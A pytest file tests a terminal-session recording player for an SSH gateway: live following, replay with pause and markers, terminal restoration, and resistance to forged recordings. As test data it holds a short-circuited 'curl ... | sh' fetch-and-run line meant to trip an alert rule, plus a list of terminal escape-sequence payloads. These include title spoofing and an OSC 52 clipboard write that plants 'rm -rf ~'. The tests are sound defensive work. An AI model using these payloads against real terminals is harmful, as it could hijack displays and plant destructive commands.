"""castgate-player play and follow: a recorded terminal shown on the analyst's terminal.

Real peers: castgate with an OpenSSH target, ssh -tt in a tmux pane typing commands, and the
player in another tmux pane (the analyst's terminal), whose screen the test reads. follow reads
castgate's event stream as it is written (through `tail -F`, as from `kubectl logs -f`, and as a
file it tails itself); play reads the finished record. A crafted record (a user's output with
escape sequences) must not change the analyst's terminal: its pane title stays as it was.
"""

from __future__ import annotations

import json
import os
import pathlib
import re
import shlex
import signal
import time

import pytest

from harness import LOGIN, PLAYER, Tmux, player, wait_until

pytestmark = pytest.mark.timeout(240)


def user_terminal(gateway, keys) -> Tmux:
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"], width=90, height=24)
    term.type("export PS1='live$ '")
    term.wait_for("live$ ")
    return term


def pane_title(term: Tmux) -> str:
    return term._tmux("display-message", "-p", "-t", "t", "#{pane_title}")


def terminal_restored(screen: str) -> bool:
    """`stty -a` run after the player: canonical mode and echo are back on."""
    return (re.search(r"(?<![-\w])icanon\b", screen) is not None and
            re.search(r"(?<![-\w])echo\b", screen) is not None and "-icanon" not in screen)


def test_follow_shows_a_live_session_then_its_end(gateway, keys):
    events = gateway.stdout_path
    # The analyst's views: a stream on standard input (kubectl logs -f ... | follow), and the
    # file tailed by follow itself, with --once.
    piped = Tmux(["sh", "-c", f"tail -n +1 -F {shlex.quote(str(events))} 2>/dev/null | "
                  f"{shlex.quote(PLAYER)} follow --user alice"], width=110, height=30)
    tailed = Tmux([PLAYER, "follow", "--user", "alice@example.com", "--target", "db1.int",
                   "--once", str(events)], width=110, height=30)
    user = None
    try:
        piped.wait_for("waiting for a terminal session of alice")
        tailed.wait_for("waiting for a terminal session")
        user = user_terminal(gateway, keys)
        user.type("echo live-$((6*7)) && printf 'row-%s\\n' a b c")
        user.wait_for("row-c")
        session = gateway.session_of()
        for view in (piped, tailed):
            screen = view.wait_for("live-42")
            view.wait_for("row-c")
            status = next(l for l in view.visible().splitlines() if l.startswith("[live"))
            assert "alice" in status and "from 127.0.0.1" in status, status
            assert "to db1.int" in status and f"as {LOGIN}" in status, status
            assert f"session {session}" in status, status
            # The prompt and the command as the user saw them.
            assert "live$ echo live-$((6*7))" in screen
        user.type("exit")
        user.wait_for("CLIENT-EXIT=0")
        for view in (piped, tailed):
            view.wait_for("[ended")
            assert "session ended" in view.visible()
        # --once: follow exits when the session ends; the pipe reader keeps waiting.
        tailed.wait_for("CLIENT-EXIT=0")
        time.sleep(0.5)
        assert "[ended" in piped.visible() and "CLIENT-EXIT" not in piped.screen()
    finally:
        for t in (user, piped, tailed):
            if t:
                t.close()


def record_session(gateway, keys) -> str:
    user = user_terminal(gateway, keys)
    try:
        user.type("echo first-$((1+1))")
        user.wait_for("first-2")
        user.type("for i in 1 2 3 4 5 6; do echo tick-$i; sleep 0.5; done")
        user.wait_for("tick-6")
        # An alert rule matches: castgate puts a marker ("alert: ...") into the recording.
        user.type("true || curl -s http://x.invalid/i.sh | sh; echo after-$((2+3))")
        user.wait_for("\nafter-5")
        user.type("exit")
        user.wait_for("CLIENT-EXIT=0")
    finally:
        user.close()
    session = gateway.session_of()
    gateway.wait_event(lambda e: e["event"]["action"] == "session.end" and
                       e["castgate"]["session"] == session, what="the session's end")
    return session


def test_play_replays_with_pause_marker_jump_and_quit(gateway, keys, tmp_path):
    session = record_session(gateway, keys)
    log = str(gateway.stdout_path)

    # Straight through, fast: the last screen stays, the player exits 0.
    fast = Tmux([PLAYER, "play", "--speed", "20", log], width=160, height=30)
    try:
        screen = fast.wait_for("CLIENT-EXIT=0", timeout=30)
        for text in ("first-2", "tick-6", "after-5", "[ended", f"session {session}", "alice"):
            assert text in screen, screen
    finally:
        fast.close()

    # Not a terminal (no keys), with --key: played to the end; only drawn text on stdout.
    r = player("play", "--speed", "50", "--key", str(keys.recording_pub), log)
    assert r.returncode == 0, r.stderr
    assert b"after-5" in r.stdout and b"\x1b]" not in r.stdout

    # At speed 1: pause, nothing moves; jump to the marker; quit; the terminal is restored.
    slow = Tmux(["sh", "-c", f"{shlex.quote(PLAYER)} play --idle-time-limit 1 "
                 f"{shlex.quote(log)}; echo PLAYER-EXIT=$?; stty -a"], width=100, height=30)
    try:
        slow.wait_for("tick-1", timeout=30)
        slow.type(" ", enter=False)
        slow.wait_for("[paused 1x")
        before = slow.visible()
        time.sleep(1.5)
        after = slow.visible()
        assert after == before, f"{before}\n---\n{after}"
        assert "tick-6" not in after
        slow.type("]", enter=False)
        screen = slow.wait_for("marker: alert:")
        assert "tick-6" in slow.visible() and "[paused 1x | marker: alert:" in slow.visible()
        # A step while paused moves on by one event at most.
        slow.type(".", enter=False)
        slow.type("q", enter=False)
        screen = slow.wait_for("PLAYER-EXIT=0")
        wait_until(lambda: terminal_restored(slow.screen()), 10, "stty -a after the player")
        assert "[quit" in screen
    finally:
        slow.close()

    # Interrupted or terminated while playing: the terminal is restored all the same. (The
    # signal goes to the player alone: Ctrl-C in the pane would also end the test's shells.)
    for sig in (signal.SIGINT, signal.SIGTERM):
        pidfile = tmp_path / f"player-{int(sig)}.pid"
        inner = f"echo $$ > {shlex.quote(str(pidfile))}; exec {shlex.quote(PLAYER)} play " \
                f"{shlex.quote(log)}"
        term = Tmux(["sh", "-c", f"sh -c {shlex.quote(inner)}; echo PLAYER-EXIT=$?; stty -a"],
                    width=100, height=30)
        try:
            term.wait_for("tick-1", timeout=30)
            os.kill(int(pidfile.read_text()), sig)
            term.wait_for("PLAYER-EXIT=130")
            wait_until(lambda: terminal_restored(term.screen()), 10, "stty -a after the player")
            assert "after-5" not in term.screen()
        finally:
            term.close()


def crafted_line(session: str, seq: int, action: str, channel: int | None = None, **members) -> str:
    castgate = {"seq": seq, "session": session, "instance": "gw-forged"}
    if channel is not None:
        castgate.update(channel=channel, pty=True)
    line = {"@timestamp": "2026-11-30T16:24:00.123456Z", "castgate": castgate,
            "destination": {"address": "db\u001b]0;T-TARGET\u0007.int"},
            "event": {"action": action}, "source": {"ip": "192.0.2.7"},
            "user": {"id": "mallory", "name": "Mal\u001b]2;T-NAME\u001b\\",
                     "target": {"name": "root"}}}
    line.update(members)
    return json.dumps(line, separators=(",", ":"))


HOSTILE_OUTPUT = [
    "$ cat notes\r\n",
    "\u001b]0;PWNED-TITLE\u0007\u001b]2;PWNED-TITLE2\u001b\\",  # window / pane title
    "\u001b]52;c;cm0gLXJmIH4K\u0007",  # OSC 52: the analyst's clipboard
    "\u001bP+q544e\u001b\\\u001b[6n\u001b[c",  # DCS and queries that make a terminal answer
    "\u009d0;PWNED-C1\u009c\u009b2J",  # C1 OSC and CSI
    "\u001b[?1049h\u001b[?1000h\u001b[999;999Hfar\u001b[?1049l",
    "\r\nafter-evil\r\n",
]


def hostile_log(path: pathlib.Path, session: str = "s-hostile") -> pathlib.Path:
    lines = [crafted_line(session, 0, "session.start"),
             crafted_line(session, 1, "asciicast.header", 0,
                          asciicast={"header": {"version": 2, "width": 80, "height": 20}})]
    for i, text in enumerate(HOSTILE_OUTPUT):
        lines.append(crafted_line(session, 2 + i, "asciicast.output", 0,
                                  asciicast={"event": [0.05 * (i + 1), "o", text]}))
    lines.append(crafted_line(session, 20, "session.end", end_reason="closed"))
    path.write_text("\n".join(lines) + "\n")
    return path


def test_hostile_recording_does_not_drive_the_analysts_terminal(tmp_path):
    log = hostile_log(tmp_path / "hostile.jsonl")
    piped = ["sh", "-c", f"cat {shlex.quote(str(log))} | {shlex.quote(PLAYER)} follow"]
    for command in ([PLAYER, "play", "--speed", "10", str(log)],
                    [PLAYER, "follow", "--once", str(log)],
                    piped):  # a stream that ends: follow stops at its end
        term = Tmux(command, width=100, height=30)
        try:
            title = pane_title(term)
            screen = term.wait_for("CLIENT-EXIT=0", timeout=30)
            assert "after-evil" in screen, screen
            assert pane_title(term) == title, (command, pane_title(term))
            assert "PWNED" not in pane_title(term) and "T-NAME" not in pane_title(term)
            # The OSC strings were read by the emulator, not shown (C1 characters are not
            # controls in UTF-8 to libvterm, as to xterm: what follows them may show as text).
            assert "PWNED-TITLE" not in screen
            # Recorded text in the status line is escaped, not acted on.
            assert "\\x1b]2;T-NAME\\x1b\\\\" in screen, screen
        finally:
            term.close()
    # And in bytes: nothing but castgate's own sequences (no OSC, DCS, C1).
    r = player("play", "--speed", "50", str(log))
    assert r.returncode == 0
    out = r.stdout
    assert b"\x1b]" not in out and b"\x1bP" not in out and "\u009b".encode() not in out
    assert b"\x1b[6n" not in out and b"\x1b[?1049h" not in out and b"\x07" not in out
    for esc in re.findall(rb"\x1b.{0,12}", out):
        assert re.match(rb"\x1b(\[H|\[2J|\[K|\[\?25[lh]|\[[07]m|\[\d+;\d+H)", esc), esc


def test_play_asks_which_session_when_there_are_several(tmp_path):
    one = hostile_log(tmp_path / "one.jsonl", "s-one").read_text()
    two = hostile_log(tmp_path / "two.jsonl", "s-two").read_text()
    both = tmp_path / "both.jsonl"
    both.write_text(one + two)
    r = player("play", str(both))
    assert r.returncode == 2
    err = r.stderr.decode()
    assert "s-one" in err and "s-two" in err and "--session" in err
    r = player("play", "--speed", "50", "--session", "s-two", str(both))
    assert r.returncode == 0 and b"after-evil" in r.stdout
